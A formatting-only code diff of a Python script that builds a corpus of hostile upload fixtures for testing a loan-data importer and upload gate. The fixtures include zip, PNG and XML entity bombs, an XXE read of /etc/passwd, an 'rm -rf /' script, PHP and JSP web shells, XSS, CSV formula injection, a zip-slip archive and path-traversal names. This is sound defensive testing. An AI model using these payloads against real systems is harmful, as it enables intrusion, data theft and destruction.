@@ -64,11 +64,17 @@ def zip_bomb_xlsx() -> bytes:
     """A small .xlsx whose sheet unpacks to about 300 MB of zeros-and-tags."""
     buffer = io.BytesIO()
     with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
-        for name, text in [("[Content_Types].xml", XLSX_CONTENT_TYPES), ("_rels/.rels", RELS),
-                           ("xl/workbook.xml", WORKBOOK), ("xl/_rels/workbook.xml.rels", WB_RELS)]:
+        for name, text in [
+            ("[Content_Types].xml", XLSX_CONTENT_TYPES),
+            ("_rels/.rels", RELS),
+            ("xl/workbook.xml", WORKBOOK),
+            ("xl/_rels/workbook.xml.rels", WB_RELS),
+        ]:
             z.writestr(name, text)
         with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as f:
-            f.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
+            f.write(
+                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+            )
             chunk = b"<row>" + b" " * (1024 * 1024 - 11) + b"</row>"
             for _ in range(300):
                 f.write(chunk)
@@ -85,14 +91,24 @@ def many_entries_zip() -> bytes:
 
 
 def png_chunk(kind: bytes, data: bytes) -> bytes:
-    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+    return (
+        struct.pack(">I", len(data))
+        + kind
+        + data
+        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
+    )
 
 
 def png_decompression_bomb() -> bytes:
     """A valid-looking PNG header declaring 100,000 × 100,000 pixels."""
     ihdr = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0)
     idat = zlib.compress(b"\x00" * 1024 * 1024, 9)
-    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + png_chunk(b"IHDR", ihdr)
+        + png_chunk(b"IDAT", idat)
+        + png_chunk(b"IEND", b"")
+    )
 
 
 ENTITY_BOMB = (
@@ -107,7 +123,11 @@ ENTITY_BOMB = (
 def corpus() -> dict[str, bytes]:
     files: dict[str, bytes] = {}
     # Executables and scripts under document names.
-    files["invoice.pdf.exe"] = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program cannot be run in DOS mode."
+    files["invoice.pdf.exe"] = (
+        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
+        + b"\x00" * 64
+        + b"This program cannot be run in DOS mode."
+    )
     files["营业执照.pdf"] = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"
     files["report.pdf"] = b"\x7fELF\x02\x01\x01" + b"\x00" * 64
     files["scan.jpg"] = b"#!/bin/sh\nrm -rf / --no-preserve-root\n"
@@ -115,17 +135,23 @@ def corpus() -> dict[str, bytes]:
     files["macro.xlsm.pdf"] = b"PK\x03\x04" + b"\x00" * 26 + b"xl/vbaProject.bin"
     files["applet.pdf"] = b"\xca\xfe\xba\xbe\x00\x00\x00\x34"
     files["script.pdf"] = b"<?php system($_GET['c']); ?>"
-    files["shell.jpeg"] = b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>"
+    files["shell.jpeg"] = b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
     files["library.png"] = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 100
     # HTML and SVG with script.
     files["page.pdf"] = b"<html><body><script>alert(document.cookie)</script></body></html>"
     files["page.html"] = b"<!doctype html><script src=//evil.example/x.js></script>"
     files["logo.svg"] = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
     files["logo.png"] = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
-    files["photo.jpg"] = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>"
+    files["photo.jpg"] = (
+        b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe src='javascript:alert(1)'/></foreignObject></svg>"
+    )
     files["xss.pdf"] = b"\xef\xbb\xbf<html><img src=x onerror=alert(1)></html>"
-    files["hta.pdf"] = b"<HTA:APPLICATION ID='x'><script language='VBScript'>CreateObject(\"WScript.Shell\")</script>"
-    files["mhtml.pdf"] = b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>"
+    files["hta.pdf"] = (
+        b"<HTA:APPLICATION ID='x'><script language='VBScript'>CreateObject(\"WScript.Shell\")</script>"
+    )
+    files["mhtml.pdf"] = (
+        b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<script>alert(1)</script>"
+    )
     # Broken or fake images and PDFs.
     files["truncated.png"] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
     files["garbage.png"] = b"\x89PNG\r\n\x1a\n" + b"\x00garbage" * 50
@@ -135,7 +161,9 @@ def corpus() -> dict[str, bytes]:
     files["one-byte.pdf"] = b"%"
     files["pdf-in-text.pdf"] = b"Hello, this is text that mentions %PDF-1.7 later on."
     files["utf16.pdf"] = "%PDF-1.7".encode("utf-16")
-    files["gif.png"] = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
+    files["gif.png"] = (
+        b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
+    )
     files["bmp.jpg"] = b"BM" + b"\x00" * 60
     files["tiff.png"] = b"II*\x00" + b"\x00" * 60
     files["webp.jpg"] = b"RIFF\x00\x00\x00\x00WEBPVP8 " + b"\x00" * 40
@@ -156,23 +184,42 @@ def corpus() -> dict[str, bytes]:
     # Spreadsheets: bombs, formulas, odd shapes.
     files["zip-bomb.xlsx"] = zip_bomb_xlsx()
     files["many-entries.xlsx"] = many_entries_zip()
-    files["entity-bomb.xlsx"] = xlsx(ENTITY_BOMB + sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>&lol9;</t></is></c></row>"))
+    files["entity-bomb.xlsx"] = xlsx(
+        ENTITY_BOMB + sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>&lol9;</t></is></c></row>")
+    )
     files["external-entity.xlsx"] = xlsx(
         '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
         + sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>&xxe;</t></is></c></row>")
     )
-    files["16384-columns.xlsx"] = xlsx(sheet("<row r='1'><c r='XFD1' t='inlineStr'><is><t>x</t></is></c></row>", dimension="A1:XFD1048576"))
+    files["16384-columns.xlsx"] = xlsx(
+        sheet(
+            "<row r='1'><c r='XFD1' t='inlineStr'><is><t>x</t></is></c></row>",
+            dimension="A1:XFD1048576",
+        )
+    )
     files["formula-no-cache.xlsx"] = xlsx(sheet("<row r='1'><c r='A1'><f>SUM(1,2)</f></c></row>"))
     files["dde.csv"] = b"=cmd|' /C calc'!A0,+1+1,@SUM(1)\r\n"
     files["not-a-zip.xlsx"] = b"this is not a workbook"
-    files["html-as.xlsx"] = b"<table><tr><td>=HYPERLINK(\"http://evil\")</td></tr></table>"
+    files["html-as.xlsx"] = b'<table><tr><td>=HYPERLINK("http://evil")</td></tr></table>'
     files["truncated.xlsx"] = xlsx(sheet(""))[:200]
     files["binary.csv"] = bytes(range(256)) * 4
     # More spreadsheets and CSVs for the importer (every one refused with a reason by loans.importer).
-    files["sharedstrings-entity.xlsx"] = xlsx(sheet("<row r='1'><c r='A1' t='s'><v>0</v></c></row>"), extra={
-        "xl/sharedStrings.xml": (ENTITY_BOMB + "<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
-                                 "<si><t>&lol9;</t></si></sst>").encode()})
-    files["16384-columns.csv"] = (",".join(f"c{i}" for i in range(16384)) + "\r\n" + ",".join("1" for _ in range(16384)) + "\r\n").encode()
+    files["sharedstrings-entity.xlsx"] = xlsx(
+        sheet("<row r='1'><c r='A1' t='s'><v>0</v></c></row>"),
+        extra={
+            "xl/sharedStrings.xml": (
+                ENTITY_BOMB
+                + "<sst xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>"
+                "<si><t>&lol9;</t></si></sst>"
+            ).encode()
+        },
+    )
+    files["16384-columns.csv"] = (
+        ",".join(f"c{i}" for i in range(16384))
+        + "\r\n"
+        + ",".join("1" for _ in range(16384))
+        + "\r\n"
+    ).encode()
     files["100001-rows.csv"] = "贷款合同编号\r\n".encode() + b"1\r\n" * 100_001
     files["utf16.csv"] = "贷款合同编号,银行代码\r\nA,B\r\n".encode("utf-16")
     files["not-gbk.csv"] = b"\x80\x80\xff\xfe\x81"
@@ -182,17 +229,33 @@ def corpus() -> dict[str, bytes]:
     files["exe-as.csv"] = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64
     files["old-xls.xlsx"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
     files["ods-as.xlsx"] = ods()
-    files["header-only.xlsx"] = xlsx(sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>贷款合同编号</t></is></c></row>"))
-    files["macro.xlsx"] = xlsx(sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>"),
-                               extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 100})
-    files["zip-slip.xlsx"] = xlsx(sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>"),
-                                  extra={"../../../../tmp/evil.sh": b"#!/bin/sh\necho pwned\n"})
-    files["deep-nesting.xlsx"] = xlsx(sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>")
-                                      .replace("<sheetData>", "<extLst>" + "<ext>" * 50_000 + "</ext>" * 50_000 + "</extLst><sheetData>"))
-    files["merged-cells.xlsx"] = xlsx(sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>")
-                                      .replace("</worksheet>", "<mergeCells count='1'><mergeCell ref='A1:G1'/></mergeCells></worksheet>"))
-    files["formula-injection.csv"] = ("贷款合同编号,银行代码,结息日期,计息起始日,计息截止日,利息金额（元）,是否逾期利息\r\n"
-                                      "=cmd|' /C calc'!A0,@SUM(1),+1,-1,=HYPERLINK(\"http://evil\"),=1+1,否\r\n").encode()
+    files["header-only.xlsx"] = xlsx(
+        sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>贷款合同编号</t></is></c></row>")
+    )
+    files["macro.xlsx"] = xlsx(
+        sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>"),
+        extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 100},
+    )
+    files["zip-slip.xlsx"] = xlsx(
+        sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>"),
+        extra={"../../../../tmp/evil.sh": b"#!/bin/sh\necho pwned\n"},
+    )
+    files["deep-nesting.xlsx"] = xlsx(
+        sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>").replace(
+            "<sheetData>",
+            "<extLst>" + "<ext>" * 50_000 + "</ext>" * 50_000 + "</extLst><sheetData>",
+        )
+    )
+    files["merged-cells.xlsx"] = xlsx(
+        sheet("<row r='1'><c r='A1' t='inlineStr'><is><t>x</t></is></c></row>").replace(
+            "</worksheet>",
+            "<mergeCells count='1'><mergeCell ref='A1:G1'/></mergeCells></worksheet>",
+        )
+    )
+    files["formula-injection.csv"] = (
+        "贷款合同编号,银行代码,结息日期,计息起始日,计息截止日,利息金额（元）,是否逾期利息\r\n"
+        "=cmd|' /C calc'!A0,@SUM(1),+1,-1,=HYPERLINK(\"http://evil\"),=1+1,否\r\n"
+    ).encode()
     # Hostile names on table-shaped files (for the importer path; the upload gate refuses them by content).
     files["../../../etc/cron.d/x.csv"] = b"\x00binary"
     files["..\\..\\windows\\system32\\drivers.xlsx"] = b"not a workbook"
@@ -221,7 +284,9 @@ def main() -> None:
     for i, (_name, data) in enumerate(sorted(corpus().items()), start=1):
         # The stored file name is safe; the hostile name the test uploads under is in the index.
         (OUT / f"{i:03d}.bin").write_bytes(data)
-    index = "\n".join(f"{i:03d}.bin\t{name!r}" for i, (name, _) in enumerate(sorted(corpus().items()), start=1))
+    index = "\n".join(
+        f"{i:03d}.bin\t{name!r}" for i, (name, _) in enumerate(sorted(corpus().items()), start=1)
+    )
     (OUT / "INDEX.tsv").write_text(index + "\n", encoding="utf-8")
 
 
